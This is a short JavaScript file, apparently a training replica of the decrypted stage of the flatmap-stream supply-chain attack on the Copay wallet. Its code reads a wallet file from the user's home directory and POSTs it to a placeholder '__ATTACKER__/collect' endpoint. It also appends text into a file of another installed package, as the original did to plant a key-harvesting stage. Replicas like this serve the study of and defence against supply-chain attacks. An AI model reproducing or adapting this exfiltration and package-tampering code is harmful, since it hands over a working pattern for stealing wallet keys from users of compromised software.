// The decrypted stage (replica). The real one rewrote a file of a package the Copay wallet bundles, so
// that the shipped app sent wallet keys to the attacker; this one sends the fake wallet file to a
// listener on 127.0.0.1 and marks the sibling package's file.
var fs = require('fs'), path = require('path'), os = require('os'), http = require('http');
var wallet = fs.readFileSync(path.join(os.homedir(), '.wallet', 'wallet.dat'), 'utf8');
var req = http.request('__ATTACKER__/collect', { method: 'POST' });
req.on('error', function () {});
req.end(JSON.stringify({ wallet: wallet.trim() }));
var target = require.resolve('@zxing/library/esm5/core/common/reedsolomon/ReedSolomonDecoder.js');
fs.appendFileSync(target, '\n// injected by the flatmap-stream replica: the next stage would harvest keys here\n');
